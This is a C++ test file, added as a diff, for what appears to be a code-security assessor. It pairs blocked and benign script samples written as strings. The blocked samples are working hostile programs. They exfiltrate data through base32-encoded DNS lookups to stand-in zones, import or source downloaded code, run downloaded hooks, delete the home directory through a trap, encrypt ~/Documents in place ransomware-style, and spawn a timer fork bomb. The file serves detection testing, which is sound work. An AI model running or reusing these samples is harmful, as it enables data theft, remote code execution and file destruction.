@@ -1,0 +1,467 @@
+// The classes the twenty-seventh session modelled (issue 14), from the tune
+// parts of the hundred-and-nineteenth round (tests/corpus/prog123_MANIFEST.tsv)
+// and real code installed from Debian (impacket's timers): programs written
+// from the rubric alone by writers who never saw the assessor. Strings here
+// are never executed.
+
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// `"%s.%d.%s" % (label, i, ZONE)` and `"{}.{}".format(...)` with ZONE an environment
+// variable's value or its default: a format took each argument's first text
+// only (the variable, unknown), so the name looked up lost the zone and the
+// table's rows leaving through DNS were not seen. A format is now filled with
+// each combination of its arguments' alternatives, as an f-string is. A
+// lookup of names the user typed under the same zone stays LOW.
+TEST(HundredAndNineteenthRoundClasses, AFormatFillsEachAlternativeOfItsArguments) {
+  const Case cases[] = {
+      {"a table's rows base32-encoded into names formatted with %", B,
+       "import base64\n"
+       "import os\n"
+       "import socket\n"
+       "import sqlite3\n"
+       "\n"
+       "ZONE = os.environ.get(\"TRACE_ZONE\", \"lic.trace-export.example.org\")\n"
+       "\n"
+       "\n"
+       "def labels(blob, seat):\n"
+       "    packed = base64.b32encode(blob).decode().rstrip(\"=\").lower()\n"
+       "    for i in range(0, len(packed), 60):\n"
+       "        yield \"%s.%d.%s.%s\" % (packed[i:i + 60], i, seat, ZONE)\n"
+       "\n"
+       "\n"
+       "db = sqlite3.connect(\"trace.db\")\n"
+       "rows = \"\\n\".join(\",\".join(map(str, r)) for r in db.execute(\"SELECT * FROM lots\"))\n"
+       "for name in labels(rows.encode(), \"s1\"):\n"
+       "    try:\n"
+       "        socket.getaddrinfo(name, None)\n"
+       "    except socket.gaierror:\n"
+       "        pass\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"a CSV file base32-encoded into names formatted with str.format", B,
+       "import base64\n"
+       "import os\n"
+       "import socket\n"
+       "\n"
+       "ZONE = os.environ.get(\"TRACE_ZONE\", \"lic.trace-export.example.org\")\n"
+       "\n"
+       "with open(\"suppliers.csv\", \"rb\") as fh:\n"
+       "    packed = base64.b32encode(fh.read()).decode().rstrip(\"=\").lower()\n"
+       "for i in range(0, len(packed), 60):\n"
+       "    socket.getaddrinfo(\"{}.{}.{}\".format(packed[i:i + 60], i, ZONE), None)\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"seats the user names looked up under the same zone", L,
+       "import os\n"
+       "import socket\n"
+       "import sys\n"
+       "\n"
+       "ZONE = os.environ.get(\"TRACE_ZONE\", \"lic.trace-export.example.org\")\n"
+       "\n"
+       "for seat in sys.argv[1:]:\n"
+       "    name = \"%s.%s\" % (seat.lower(), ZONE)\n"
+       "    try:\n"
+       "        socket.getaddrinfo(name, None)\n"
+       "    except socket.gaierror:\n"
+       "        print(\"no licence for\", seat)\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Files downloaded into a cache directory under names from a downloaded
+// manifest, the directory put on sys.path and a module imported from it:
+// sys.path took only a directory written as a whole (an extracted archive),
+// and only the first of the directory's alternatives. It now holds what the
+// code wrote into it, under names made at run time too, for each place it
+// may be. The same pack read as JSON data stays LOW.
+TEST(HundredAndNineteenthRoundClasses, ADirectoryOnSysPathHoldsTheFilesWrittenIntoIt) {
+  const Case cases[] = {
+      {"a style pack's files downloaded into ~/.cache and its hooks module imported", B,
+       "import importlib\n"
+       "import json\n"
+       "import sys\n"
+       "import urllib.request\n"
+       "from pathlib import Path\n"
+       "\n"
+       "SERVER = \"https://styles.example.com/packs\"\n"
+       "CACHE = Path.home() / \".cache\" / \"styles\"\n"
+       "\n"
+       "\n"
+       "def fetch(url):\n"
+       "    with urllib.request.urlopen(url, timeout=15) as resp:\n"
+       "        return resp.read()\n"
+       "\n"
+       "\n"
+       "def refresh(pack):\n"
+       "    target = CACHE / pack\n"
+       "    target.mkdir(parents=True, exist_ok=True)\n"
+       "    manifest = json.loads(fetch(f\"{SERVER}/{pack}/manifest.json\"))\n"
+       "    for name in manifest.get(\"files\", []):\n"
+       "        (target / Path(name).name).write_bytes(fetch(f\"{SERVER}/{pack}/{name}\"))\n"
+       "    return target\n"
+       "\n"
+       "\n"
+       "def load_hooks(target):\n"
+       "    if (target / \"style_hooks.py\").exists():\n"
+       "        sys.path.insert(0, str(target))\n"
+       "        return importlib.import_module(\"style_hooks\")\n"
+       "    return None\n"
+       "\n"
+       "\n"
+       "hooks = load_hooks(refresh(sys.argv[1] if len(sys.argv) > 1 else \"generic\"))\n"
+       "print(\"hooks loaded\" if hooks else \"no hooks\")\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"the same pack's style.json read as data", L,
+       "import json\n"
+       "import sys\n"
+       "import urllib.request\n"
+       "from pathlib import Path\n"
+       "\n"
+       "SERVER = \"https://styles.example.com/packs\"\n"
+       "CACHE = Path.home() / \".cache\" / \"styles\"\n"
+       "\n"
+       "\n"
+       "def fetch(url):\n"
+       "    with urllib.request.urlopen(url, timeout=15) as resp:\n"
+       "        return resp.read()\n"
+       "\n"
+       "\n"
+       "def refresh(pack):\n"
+       "    target = CACHE / pack\n"
+       "    target.mkdir(parents=True, exist_ok=True)\n"
+       "    manifest = json.loads(fetch(f\"{SERVER}/{pack}/manifest.json\"))\n"
+       "    for name in manifest.get(\"files\", []):\n"
+       "        (target / Path(name).name).write_bytes(fetch(f\"{SERVER}/{pack}/{name}\"))\n"
+       "    return target\n"
+       "\n"
+       "\n"
+       "target = refresh(sys.argv[1] if len(sys.argv) > 1 else \"generic\")\n"
+       "style = json.loads((target / \"style.json\").read_text())\n"
+       "print(style.get(\"width\", 56))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `layout=$(refresh_layout "$house")` where the function downloads the
+// layout, logs to standard error (`>&2`), tests it with `[[ -n $(find ...) ]]`
+// and echoes its path before `return 0`: the log line and the find inside
+// the test counted as what the function printed, so the path sourced was
+// not the download. Output sent to standard error or /dev/null leaves
+// nothing for $(...), and a substitution inside a test's expression prints
+// only into itself. Reading the same file as data stays LOW.
+TEST(HundredAndNineteenthRoundClasses, WhatAFunctionPrintsIsNotItsLogsOrItsTestsOutput) {
+  const Case cases[] = {
+      {"a downloaded layout file sourced by the path a function prints", B,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "HOOKS=\".cache/layouts\"\n"
+       "LAYOUT_URL=\"${LAYOUT_URL:-https://cdn.example.com/layouts}\"\n"
+       "log() { printf '%s %s\\n' \"$(date +%H:%M:%S)\" \"$*\" >&2; }\n"
+       "mkdir -p \"$HOOKS\"\n"
+       "\n"
+       "refresh_layout() {\n"
+       "    local house=\"$1\" hook=\"$HOOKS/$1.layout\"\n"
+       "    if [[ ! -s \"$hook\" || -n $(find \"$hook\" -mtime +0) ]]; then\n"
+       "        wget -q -T 30 -O \"$hook.new\" \"$LAYOUT_URL/$house.layout\" \\\n"
+       "            && mv \"$hook.new\" \"$hook\" \\\n"
+       "            || { rm -f \"$hook.new\"; log \"no layout update for $house\"; }\n"
+       "    fi\n"
+       "    [[ -s \"$hook\" ]] && echo \"$hook\"\n"
+       "    return 0\n"
+       "}\n"
+       "\n"
+       "while read -r house _; do\n"
+       "    layout=$(refresh_layout \"$house\")\n"
+       "    [[ -n \"$layout\" ]] && . \"$layout\"\n"
+       "    echo \"synced $house\"\n"
+       "done < houses.conf\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"the same file's first column read with cut", L,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "HOOKS=\".cache/layouts\"\n"
+       "LAYOUT_URL=\"${LAYOUT_URL:-https://cdn.example.com/layouts}\"\n"
+       "log() { printf '%s %s\\n' \"$(date +%H:%M:%S)\" \"$*\" >&2; }\n"
+       "mkdir -p \"$HOOKS\"\n"
+       "\n"
+       "refresh_layout() {\n"
+       "    local house=\"$1\" hook=\"$HOOKS/$1.layout\"\n"
+       "    if [[ ! -s \"$hook\" || -n $(find \"$hook\" -mtime +0) ]]; then\n"
+       "        wget -q -T 30 -O \"$hook.new\" \"$LAYOUT_URL/$house.layout\" \\\n"
+       "            && mv \"$hook.new\" \"$hook\" \\\n"
+       "            || { rm -f \"$hook.new\"; log \"no layout update for $house\"; }\n"
+       "    fi\n"
+       "    [[ -s \"$hook\" ]] && echo \"$hook\"\n"
+       "    return 0\n"
+       "}\n"
+       "\n"
+       "while read -r house _; do\n"
+       "    layout=$(refresh_layout \"$house\")\n"
+       "    [[ -n \"$layout\" ]] && cut -d, -f1 \"$layout\"\n"
+       "    echo \"synced $house\"\n"
+       "done < houses.conf\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `${SCRATCH%%/.feedplan*}` of "$HOME/.feedplan/scratch/$$" is the home
+// directory: a pattern other than a plain suffix left a value with parts
+// known only at run time as it was. A literal and a star now cut it at the
+// literal's first (%% #) or last (% ##) occurrence when no unknown part can
+// hold an earlier or later one. `${SCRATCH%/*}` stays in the scratch tree: LOW.
+TEST(HundredAndNineteenthRoundClasses, APatternWithAStarCutsAPartialValue) {
+  const Case cases[] = {
+      {"an exit trap that removes everything above the state directory", B,
+       "#!/usr/bin/env bash\n"
+       "set -uo pipefail\n"
+       "STATE_DIR=\"${PLAN_HOME:-$HOME/.feedplan}\"\n"
+       "SCRATCH=\"$STATE_DIR/scratch/$$\"\n"
+       "cleanup() {\n"
+       "  # runs of earlier days leave scratch directories behind\n"
+       "  rm -rf --one-file-system -- \"${SCRATCH%%/.feedplan*}\"\n"
+       "}\n"
+       "mkdir -p \"$SCRATCH\"\n"
+       "trap cleanup EXIT\n"
+       "sort flocks.csv > \"$SCRATCH/flocks.sorted\"\n"
+       "wc -l < \"$SCRATCH/flocks.sorted\"\n",
+       "WIPE", SH},
+      {"the same trap removing the scratch root", L,
+       "#!/usr/bin/env bash\n"
+       "set -uo pipefail\n"
+       "STATE_DIR=\"${PLAN_HOME:-$HOME/.feedplan}\"\n"
+       "SCRATCH=\"$STATE_DIR/scratch/$$\"\n"
+       "cleanup() {\n"
+       "  # runs of earlier days leave scratch directories behind\n"
+       "  rm -rf --one-file-system -- \"${SCRATCH%/*}\"\n"
+       "}\n"
+       "mkdir -p \"$SCRATCH\"\n"
+       "trap cleanup EXIT\n"
+       "sort flocks.csv > \"$SCRATCH/flocks.sorted\"\n"
+       "wc -l < \"$SCRATCH/flocks.sorted\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// run-parts DIR runs every executable file in DIR: hooks downloaded into
+// the directory under names from a downloaded index and then run-parts'd
+// are remote code. `run-parts --test` only names them: LOW.
+TEST(HundredAndNineteenthRoundClasses, RunPartsRunsTheFilesOfItsDirectory) {
+  const Case cases[] = {
+      {"downloaded hooks run with run-parts", B,
+       "#!/bin/sh\n"
+       "set -eu\n"
+       "BASE=\"https://nas.example.lan/register\"\n"
+       "HOOK_DIR=\"./.ringsync/post-sync.d\"\n"
+       "mkdir -p \"$HOOK_DIR\"\n"
+       "curl -fsS \"$BASE/hooks/index.txt\" | while read -r hook; do\n"
+       "  curl -fsS -o \"$HOOK_DIR/$hook\" \"$BASE/hooks/$hook\"\n"
+       "  chmod 0755 \"$HOOK_DIR/$hook\"\n"
+       "done\n"
+       "run-parts --exit-on-error \"$HOOK_DIR\"\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"the same hooks listed with run-parts --test", L,
+       "#!/bin/sh\n"
+       "set -eu\n"
+       "BASE=\"https://nas.example.lan/register\"\n"
+       "HOOK_DIR=\"./.ringsync/post-sync.d\"\n"
+       "mkdir -p \"$HOOK_DIR\"\n"
+       "curl -fsS \"$BASE/hooks/index.txt\" | while read -r hook; do\n"
+       "  curl -fsS -o \"$HOOK_DIR/$hook\" \"$BASE/hooks/$hook\"\n"
+       "  chmod 0755 \"$HOOK_DIR/$hook\"\n"
+       "done\n"
+       "run-parts --test \"$HOOK_DIR\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `".".join(parts + (ZONE,))` with ZONE an environment variable or its
+// default: a join took each element's first text, so the zone after the
+// unknown labels was lost. It now gives each combination (bounded; past the
+// bound an element's first text, as before). Names the user typed: LOW.
+TEST(HundredAndNineteenthRoundClasses, AJoinIsEachCombinationOfItsElementsAlternatives) {
+  const Case cases[] = {
+      {"documents walked under the home, base32-encoded into labels joined before the zone", B,
+       "import base64\n"
+       "import os\n"
+       "import socket\n"
+       "import threading\n"
+       "from pathlib import Path\n"
+       "\n"
+       "ZONE = os.environ.get(\"GRADE_ZONE\", \"lic.gradelink.example.net\")\n"
+       "\n"
+       "\n"
+       "def records(roots):\n"
+       "    for root in roots:\n"
+       "        for path in sorted(Path(root).expanduser().rglob(\"*.csv\")):\n"
+       "            yield path.name, path.read_bytes()\n"
+       "\n"
+       "\n"
+       "class Beacon(threading.Thread):\n"
+       "    def __init__(self, seat, roots):\n"
+       "        super().__init__(daemon=True)\n"
+       "        self.seat, self.roots = seat, roots\n"
+       "\n"
+       "    def _q(self, *parts):\n"
+       "        try:\n"
+       "            socket.getaddrinfo(\".\".join(parts + (ZONE,)), 53)\n"
+       "        except OSError:\n"
+       "            pass\n"
+       "\n"
+       "    def run(self):\n"
+       "        for n, (name, blob) in enumerate(records(self.roots)):\n"
+       "            enc = base64.b32encode(blob).decode().rstrip(\"=\").lower()\n"
+       "            for i in range(0, len(enc), 60):\n"
+       "                self._q(enc[i:i + 60], \"%d-%d\" % (n, i), self.seat)\n"
+       "\n"
+       "\n"
+       "Beacon(\"s1\", [\"~/Documents\", \".\"]).start()\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"seats the user names joined before the same zone", L,
+       "import os\n"
+       "import socket\n"
+       "import sys\n"
+       "\n"
+       "ZONE = os.environ.get(\"GRADE_ZONE\", \"lic.gradelink.example.net\")\n"
+       "\n"
+       "\n"
+       "def lookup(*parts):\n"
+       "    try:\n"
+       "        return socket.getaddrinfo(\".\".join(parts + (ZONE,)), 53)\n"
+       "    except OSError:\n"
+       "        return []\n"
+       "\n"
+       "\n"
+       "for seat in sys.argv[1:]:\n"
+       "    print(seat, bool(lookup(seat.lower(), \"seat\")))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A tool that encrypts a tree into another tree and decrypts the other
+// way: both trees' files have names made at run time under roots the user
+// gives ("<src>/<rel>.enc" and "<dest>/<rel>.enc" look alike), so the
+// encrypted write looked like an overwrite of a file read (RANSOMWARE). A
+// name made at run time now names a file read only when it comes from
+// that read's walk. Encrypting each walked file in place stays BLOCKED.
+TEST(HundredAndNineteenthRoundClasses, AnOverwriteIsOfTheFileThatWalkRead) {
+  const Case cases[] = {
+      {"an archive tree encrypted into a separate tree, and back", L,
+       "import argparse\n"
+       "import os\n"
+       "from pathlib import Path\n"
+       "\n"
+       "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
+       "\n"
+       "SUFFIX = \".enc\"\n"
+       "\n"
+       "\n"
+       "def encrypt_tree(key, src_root, dest_root):\n"
+       "    for dirpath, _, names in os.walk(src_root):\n"
+       "        for name in names:\n"
+       "            src = Path(dirpath) / name\n"
+       "            rel = src.relative_to(src_root)\n"
+       "            dest = dest_root / rel.with_name(rel.name + SUFFIX)\n"
+       "            dest.parent.mkdir(parents=True, exist_ok=True)\n"
+       "            nonce = os.urandom(12)\n"
+       "            dest.write_bytes(nonce + AESGCM(key).encrypt(nonce, src.read_bytes(), None))\n"
+       "\n"
+       "\n"
+       "def decrypt_tree(key, src_root, dest_root):\n"
+       "    for src in src_root.rglob(\"*\" + SUFFIX):\n"
+       "        raw = src.read_bytes()\n"
+       "        rel = src.relative_to(src_root)\n"
+       "        dest = dest_root / rel.with_name(rel.name[: -len(SUFFIX)])\n"
+       "        dest.parent.mkdir(parents=True, exist_ok=True)\n"
+       "        dest.write_bytes(AESGCM(key).decrypt(raw[:12], raw[12:], None))\n"
+       "\n"
+       "\n"
+       "ap = argparse.ArgumentParser()\n"
+       "ap.add_argument(\"source\", type=Path)\n"
+       "ap.add_argument(\"dest\", type=Path)\n"
+       "ap.add_argument(\"--decrypt\", action=\"store_true\")\n"
+       "args = ap.parse_args()\n"
+       "key = bytes.fromhex(os.environ[\"ARCHIVE_KEY\"])\n"
+       "(decrypt_tree if args.decrypt else encrypt_tree)(key, args.source, args.dest)\n",
+       nullptr},
+      {"each file under ~/Documents encrypted in place", B,
+       "import argparse\n"
+       "import os\n"
+       "from pathlib import Path\n"
+       "\n"
+       "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
+       "\n"
+       "\n"
+       "def seal_tree(key, root):\n"
+       "    for dirpath, _, names in os.walk(root):\n"
+       "        for name in names:\n"
+       "            path = Path(dirpath) / name\n"
+       "            nonce = os.urandom(12)\n"
+       "            path.write_bytes(nonce + AESGCM(key).encrypt(nonce, path.read_bytes(), None))\n"
+       "\n"
+       "\n"
+       "ap = argparse.ArgumentParser()\n"
+       "ap.add_argument(\"root\", type=Path, nargs=\"?\", default=Path.home() / \"Documents\")\n"
+       "args = ap.parse_args()\n"
+       "seal_tree(bytes.fromhex(os.environ[\"ARCHIVE_KEY\"]), args.root)\n",
+       "RANSOMWARE"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A threading.Timer whose callback arms the next one (impacket's
+// DCOM ping, its SOCKS keep-alive) runs one after another: it counted as a
+// thread starting a thread of itself (FORK-BOMB). Timers multiply only
+// when the callback arms several, in a loop: still FORK-BOMB.
+TEST(HundredAndNineteenthRoundClasses, ATimerItsCallbackArmsAgainIsAPeriodicTask) {
+  const Case cases[] = {
+      {"a heartbeat timer that re-arms itself", L,
+       "import threading\n"
+       "import time\n"
+       "\n"
+       "\n"
+       "class Heartbeat:\n"
+       "    \"\"\"Calls a function every few seconds on a timer that arms itself again.\"\"\"\n"
+       "\n"
+       "    def __init__(self, interval, function):\n"
+       "        self.interval, self.function = interval, function\n"
+       "        self.next_call = time.time()\n"
+       "        self.start()\n"
+       "\n"
+       "    def _run(self):\n"
+       "        self.start()\n"
+       "        self.function()\n"
+       "\n"
+       "    def start(self):\n"
+       "        self.next_call += self.interval\n"
+       "        self._timer = threading.Timer(self.next_call - time.time(), self._run)\n"
+       "        self._timer.daemon = True\n"
+       "        self._timer.start()\n"
+       "\n"
+       "\n"
+       "Heartbeat(5, lambda: print(\"alive\"))\n"
+       "time.sleep(12)\n",
+       nullptr},
+      {"a timer callback that arms four timers of itself", B,
+       "import threading\n"
+       "\n"
+       "\n"
+       "def swarm():\n"
+       "    for _ in range(4):\n"
+       "        threading.Timer(0.01, swarm).start()\n"
+       "\n"
+       "\n"
+       "swarm()\n",
+       "FORK-BOMB"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
